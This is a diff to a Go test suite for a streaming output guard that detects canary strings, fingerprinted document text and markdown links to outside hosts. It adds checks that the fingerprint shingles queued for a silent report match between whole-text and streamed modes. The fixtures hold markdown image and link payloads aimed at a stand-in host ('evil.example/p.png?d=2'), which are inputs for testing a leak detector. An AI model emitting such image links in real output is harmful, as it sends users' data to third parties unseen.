@@ -53,7 +53,7 @@ func newStreamFixture(t *testing.T) *streamFixture {
 		fixed("\n", "\n\n", "> ", ". ", ", ", " "),
 		fixed(f.own, strings.ToUpper(f.own), "x"+f.own+"y"),
 		run(f.ownDoc, 5, 30),
-		run(f.otherDoc, 3, minWords-1), // too short to block
+		run(f.otherDoc, 3, minWords-1), // too short to be reported
 		fixed(
 			"[t](https://ok.example/x)", "[t](https://evil.example/?d=1)", "![i](https://evil.example/p.png?d=2)",
 			"![i](https://ok.example/i.png)", "<https://evil.example/>", `<img src="https://evil.example/x">`,
@@ -72,7 +72,7 @@ func newStreamFixture(t *testing.T) *streamFixture {
 	f.rare = fixed("["+long+"](https://evil.example)", "<https://ok.example/"+long[:maxConstruct-30]+">")
 	f.leakers = []func(*rand.Rand) string{
 		fixed(f.other, strings.ToUpper(f.other)),
-		run(f.otherDoc, minWords, 20),
+		run(f.otherDoc, minWords, 20),                                  // reported, not blocked
 		fixed(f.other[:8] + "[x](https://evil.example)" + f.other[8:]), // a canary formed by removal
 		fixed(f.other[:8] + f.own + f.other[8:]),
 		fixed("[x]![y](https://evil.example/a)(https://evil.example/b)"),
@@ -162,6 +162,12 @@ func TestStreamEquivalence(t *testing.T) {
 		} else if want.Text != text {
 			rewritten++
 		}
+		// What is queued for the silent check: the shingles of the text
+		// sent, in order.
+		wantChecks := drain(f.g)
+		if hs := split(want.Text, true).shingles(f.g.seed); !want.Blocked && !slices.Equal(joinChecks(wantChecks), hs) {
+			t.Fatalf("text %d: Check queued %d shingles, want the %d of its Text", i, len(joinChecks(wantChecks)), len(hs))
+		}
 		for range 8 {
 			pieces := cuts(r, text)
 			sent, got, valid := stream(f.g, pieces, f.allow)
@@ -177,6 +183,11 @@ func TestStreamEquivalence(t *testing.T) {
 			if !valid {
 				t.Fatalf("text %d: stream sent a piece that is not valid UTF-8; pieces %q", i, pieces)
 			}
+			if got := drain(f.g); !slices.EqualFunc(got, wantChecks, func(a, b textCheck) bool {
+				return a.receiver == b.receiver && a.short == b.short && slices.Equal(a.hs, b.hs)
+			}) {
+				t.Fatalf("text %d: stream queued %d checks, Check %d, or other shingles; pieces %q", i, len(got), len(wantChecks), pieces)
+			}
 		}
 	}
 	t.Logf("400 answers: %d blocked, %d rewritten", blocked, rewritten)
@@ -185,8 +196,34 @@ func TestStreamEquivalence(t *testing.T) {
 	}
 }
 
+// drain returns the checks queued on g.
+func drain(g *Guard) []textCheck {
+	var out []textCheck
+	for {
+		select {
+		case c := <-g.checks:
+			out = append(out, c)
+		default:
+			return out
+		}
+	}
+}
+
+// joinChecks returns the shingles of checks, without the overlap of
+// successive batches.
+func joinChecks(cs []textCheck) []uint64 {
+	var hs []uint64
+	for i, c := range cs {
+		if i > 0 {
+			c.hs = c.hs[w-1:]
+		}
+		hs = append(hs, c.hs...)
+	}
+	return hs
+}
+
 // TestStreamHoldsBackLittle checks what a stream holds back from plain text:
-// the last 11 words, the word in progress and the canary tail.
+// the canary tail, and nothing for fingerprints.
 func TestStreamHoldsBackLittle(t *testing.T) {
 	g := New()
 	g.SetCanaries(globex, []string{newCanary(t)})
@@ -200,10 +237,9 @@ func TestStreamHoldsBackLittle(t *testing.T) {
 		}
 		sent.WriteString(out)
 		held := len(strings.Join(list[:i+1], " ")+" ") - sent.Len()
-		// Each canary pass holds 23 bytes (the canary's length less one),
-		// the fingerprint pass 11 words and the one in progress: at most
-		// 12 words of up to 7 letters and a space here.
-		if limit := 2*23 + (heldWords+1)*8; i+1 >= minWords+6 && held > limit {
+		// Each canary pass holds 23 bytes (the canary's length less one);
+		// the fingerprint pass holds nothing.
+		if limit := 2 * 23; held > limit {
 			t.Fatalf("after %d words holding %d bytes, want at most %d", i+1, held, limit)
 		}
 	}
